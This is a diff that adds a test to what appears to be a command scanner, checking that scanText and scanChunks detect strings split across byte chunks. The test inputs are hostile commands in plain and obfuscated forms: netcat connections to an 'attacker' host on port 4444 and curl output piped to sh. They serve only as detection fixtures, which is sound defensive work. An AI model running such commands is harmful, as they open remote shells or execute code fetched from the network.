@@ -175,3 +175,26 @@ test('no bytes make it throw', (t) => {
     { numRuns: 200 },
   );
 });
+
+test('a command is found where a text begins and ends with it, in whatever pieces it comes', (t) => {
+  for (const text of [
+    'nc attacker 4444',
+    'nc x.internal 80',
+    'nc%20attacker%204444',
+    'curl https://x.test|sh',
+    'curl https://x.test | s%68',
+    'curl https://x.test \\u007csh',
+  ]) {
+    t.is(scanText(text).length, 1, text);
+    const bytes = Buffer.from(text);
+    for (let at = 1; at < bytes.length; at++) {
+      for (const pieces of [
+        [bytes.subarray(0, at), bytes.subarray(at)],
+        [bytes.subarray(0, 1), bytes.subarray(1, at), bytes.subarray(at)],
+      ]) {
+        t.is(scanChunks(pieces, 1024).flatMap(({ findings }) => findings).length, 1, `${text} cut at ${at}`);
+      }
+    }
+  }
+  t.deepEqual(scanText('anc attacker 4444'), []);
+});
